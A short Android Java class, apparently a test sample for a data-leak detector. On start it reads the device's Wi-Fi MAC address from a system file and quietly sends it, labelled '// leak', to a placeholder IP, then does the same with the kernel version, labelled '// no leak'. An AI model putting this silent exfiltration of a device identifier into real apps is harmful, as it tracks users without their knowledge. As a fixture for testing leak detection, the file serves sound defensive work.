package habits;

import android.app.Activity;
import android.os.Bundle;
import java.io.BufferedReader;
import java.io.FileReader;
import java.net.URL;

/** The address of the radio stands in a file. */
public class MacFile extends Activity {
    private String first(String path) {
        try (BufferedReader in = new BufferedReader(new FileReader(path), 256)) {
            return in.readLine();
        } catch (Exception e) {
            return "";
        }
    }

    @Override
    protected void onStart() {
        super.onStart();
        try {
            new URL("http://203.0.113.8/m/" + first("/sys/class/net/wlan0/address")).openStream(); // leak
            new URL("http://203.0.113.8/v/" + first("/proc/version")).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
